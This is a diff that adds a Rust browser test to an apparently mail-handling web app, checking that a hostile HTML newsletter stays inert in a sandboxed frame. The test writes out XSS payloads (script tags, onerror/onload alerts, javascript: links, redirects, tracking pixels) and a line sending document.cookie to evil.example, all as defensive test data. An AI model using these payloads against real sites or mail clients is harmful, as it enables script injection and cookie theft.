@@ -514,3 +514,112 @@ fn search_with_and_without_accents() {
         c.wait_text("main", "nabídka").await;
     });
 }
+
+/// A listener that counts every connection made to it (answering each with
+/// an empty 200): any request a page makes to it is something that leaked.
+fn tracker() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let count = std::sync::Arc::clone(&hits);
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+        }
+    });
+    (base, hits)
+}
+
+/// An HTML newsletter from Acme whose every part tries to run or to load
+/// something from `tracker`.
+fn hostile_html(tracker: &str) -> String {
+    let date = chrono::Local::now().to_rfc2822();
+    format!(
+        "From: Karel Horák <karel.horak@acme-stavby.cz>\r\n\
+To: jana.svobodova@modrykamen.cz\r\n\
+Subject: Newsletter s překvapením\r\n\
+Date: {date}\r\n\
+Message-ID: <hostile-html-1@acme-stavby.cz>\r\n\
+MIME-Version: 1.0\r\n\
+Content-Type: multipart/alternative; boundary=\"b1\"\r\n\
+\r\n\
+--b1\r\n\
+Content-Type: text/plain; charset=utf-8\r\n\
+\r\n\
+Novinky z Acme.\r\n\
+--b1\r\n\
+Content-Type: text/html; charset=utf-8\r\n\
+\r\n\
+<html><head><meta http-equiv=\"refresh\" content=\"0;url={tracker}/refresh\">\
+<link rel=\"stylesheet\" href=\"{tracker}/style.css\"><style>@import url({tracker}/import.css);</style></head>\
+<body onload=\"alert(5)\"><h2>Novinky z Acme</h2>\
+<script>alert(6); parent.document.title = 'pwned'; top.location = '{tracker}/top';</script>\
+<img src=\"{tracker}/pixel.gif\" width=\"1\" height=\"1\"><img src=\"x\" onerror=\"alert(7)\">\
+<div style=\"background-image: url({tracker}/bg.png)\">Sleva na rekuperace.</div>\
+<iframe src=\"{tracker}/frame\"></iframe><object data=\"{tracker}/object\"></object>\
+<form action=\"{tracker}/form\"><input name=\"q\"></form>\
+<a href=\"javascript:alert(8)\">klik</a></body></html>\r\n\
+--b1--\r\n"
+    )
+}
+
+#[test]
+fn hostile_mail_stays_inert_in_the_browser() {
+    let (tracker_url, tracker_hits) = tracker();
+    let env = example_env();
+    std::fs::write(env.path().join("maildir/new/1794600000.M1P1Q1.hostile-html"), hostile_html(&tracker_url)).unwrap();
+    env.ok(&["sync"]);
+    let server = Server::start(&env);
+    runtime().block_on(async {
+        let c = Chrome::start(&server.url(""), Size::Desktop, "hostile").await;
+        c.sign_in("jana", "tajne-heslo-1").await;
+        let acme = client_id(&c, "Acme Stavby s.r.o.").await;
+        c.goto(&format!("/clients/{acme}")).await;
+        c.wait("#timeline li.entry").await;
+
+        // The plain hostile message: its subject is text on the card, and
+        // its page shows the script as text; nothing runs.
+        c.click_text("#timeline li.entry .subject a", "<script>alert(1)</script> Faktura").await;
+        c.wait_until("the item opened", "return location.pathname.startsWith('/items/');").await;
+        c.wait_text("main h1", "<script>alert(1)</script> Faktura").await;
+        c.wait_text("main", "document.location='http://evil.example/?c='+document.cookie").await;
+        assert!(c.client.get_alert_text().await.is_err(), "no alert is open");
+        assert_eq!(c.js("return document.querySelectorAll('main script, main img').length").await, 0);
+
+        // The HTML newsletter: shown in a sandboxed frame, where nothing
+        // runs and nothing loads from elsewhere.
+        c.goto(&format!("/clients/{acme}")).await;
+        c.click_text("#timeline li.entry .subject a", "Newsletter s překvapením").await;
+        c.wait_until("the item opened", "return location.pathname.startsWith('/items/');").await;
+        let item = c.path().await;
+        c.click("main p.views a").await;
+        let frame = c.wait("iframe.mail-html").await;
+        assert_eq!(frame.attr("sandbox").await.unwrap().as_deref(), Some(""), "the frame may do nothing");
+        // Load the frame again with a listener in place, and wait until it
+        // has loaded (its images and styles included).
+        c.js("const f = document.querySelector('iframe.mail-html');
+              window.__frameLoaded = false;
+              f.addEventListener('load', () => { window.__frameLoaded = true; });
+              f.src = f.src; return true;")
+            .await;
+        c.wait_until("the mail's frame loaded", "return window.__frameLoaded === true;").await;
+        c.screenshot("item-html").await;
+        assert!(c.client.get_alert_text().await.is_err(), "no alert is open");
+        assert_eq!(c.js("return document.title").await.as_str().map(|t| t.contains("pwned")), Some(false));
+        assert!(c.path().await.starts_with(&item), "the page was not taken elsewhere: {}", c.path().await);
+        assert_eq!(
+            tracker_hits.load(std::sync::atomic::Ordering::SeqCst),
+            0,
+            "the mail loaded nothing from elsewhere (images, styles, frames, refresh)"
+        );
+        // And the tracker is reachable: the browser itself gets there when
+        // sent (so the zero above is the page's doing, not the network's).
+        c.client.goto(&format!("{tracker_url}/direct")).await.unwrap();
+        let start = std::time::Instant::now();
+        while tracker_hits.load(std::sync::atomic::Ordering::SeqCst) == 0 {
+            assert!(start.elapsed() < crate::common::browser::WAIT, "the browser never reached the tracker");
+            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        }
+    });
+}
